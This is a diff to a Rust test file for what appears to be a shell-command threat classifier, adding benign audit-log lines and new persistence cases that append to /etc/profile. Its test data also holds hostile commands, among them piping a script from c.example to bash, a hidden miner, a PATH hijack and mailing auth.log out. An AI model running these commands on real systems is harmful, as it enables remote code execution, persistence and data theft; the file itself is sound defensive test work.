@@ -238,6 +238,8 @@ fn ordinary_scripts_that_look_odd() {
             "echo \"$(($(awk '{print $2}' /proc/meminfo) / 1024))\"",
             "${SED-sed} -n 1p file; ${AWKBINARY:-awk} '{print}' file",
             "log_warning_msg \"/etc/environment has been deprecated\"",
+            "LogText \"Found a job (/etc/anacrontab): ${I}\"",
+            "Display --text \"- umask (/etc/profile and /etc/profile.d)\" --color GREEN",
             "getent group shadow",
             "mail -s report me@example.com < /var/log/backup.log",
         ],
@@ -248,6 +250,14 @@ fn ordinary_scripts_that_look_odd() {
         ("CuRl https://c.example/x.sh | bash", "download-run"),
         ("PATH=/tmp:$PATH; ls", "shell-escape"),
         ("nohup ./miner > /dev/null 2>&1 &", "download-run"),
+        (
+            "runner --text \"f = open('/etc/profile', 'a')\"",
+            "persistence-shell-rc",
+        ),
+        (
+            "runner --text \"open('/etc/profile', 'a') and go\"",
+            "persistence-shell-rc",
+        ),
         (
             "mail -s report me@example.com < /var/log/auth.log",
             "exfiltration",
